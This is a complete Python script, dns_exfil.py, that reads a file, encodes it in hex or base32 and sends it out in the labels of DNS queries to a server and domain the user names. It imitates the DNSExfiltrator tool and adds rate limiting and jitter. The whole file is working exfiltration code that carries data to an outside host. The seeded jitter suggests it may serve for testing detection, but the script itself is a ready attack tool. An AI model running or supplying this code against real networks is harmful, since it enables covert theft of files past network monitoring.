#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""dns_exfil.py --server A --domain D FILE: send a file in the labels of DNS questions, as DNSExfiltrator does.

Each question is <number>.<data>[.<data>...].<domain>; the answer is waited for, and asked again after two seconds.
--rate is the number of questions a second, with half as much jitter (seeded, so that runs are alike)."""
import argparse
import base64
import random
import socket
import struct
import time


def question(number, name, kind):
    body = b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"
    return struct.pack(">HHHHHH", number & 0xffff, 0x0100, 1, 0, 0, 0) + body + struct.pack(">HH", kind, 1)


def names(data, encoding, domain, labels, width):
    encode = {"hex": lambda raw: raw.hex(), "base32": lambda raw: base64.b32encode(raw).decode().rstrip("=").lower()}[encoding]
    raw_size = labels * width // 2 if encoding == "hex" else labels * width * 5 // 8
    for number, start in enumerate(range(0, len(data), raw_size)):
        text = encode(data[start:start + raw_size])
        yield ".".join([str(number)] + [text[i:i + width] for i in range(0, len(text), width)] + [domain])


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--server", required=True)
    parser.add_argument("--domain", required=True)
    parser.add_argument("--source", default="0.0.0.0")
    parser.add_argument("--encoding", choices=("hex", "base32"), default="base32")
    parser.add_argument("--type", choices=("A", "TXT"), default="TXT")
    parser.add_argument("--labels", type=int, default=3)
    parser.add_argument("--width", type=int, default=60)
    parser.add_argument("--rate", type=float, default=20.0)
    parser.add_argument("file")
    options = parser.parse_args()
    rng = random.Random(7)
    with open(options.file, "rb") as stream:
        data = stream.read()
    sent = 0
    for number, name in enumerate(names(data, options.encoding, options.domain, options.labels, options.width)):
        # a port of its own for each question, as a stub resolver has
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.bind((options.source, 0))
            sock.settimeout(2)
            for _ in range(3):
                sock.sendto(question(rng.randrange(65536), name, {"A": 1, "TXT": 16}[options.type]), (options.server, 53))
                try:
                    sock.recv(4096)
                    break
                except TimeoutError:
                    continue
        sent = number + 1
        time.sleep(rng.uniform(0.5, 1.5) / options.rate)
    print(f"{sent} questions, {len(data)} bytes")


if __name__ == "__main__":
    main()
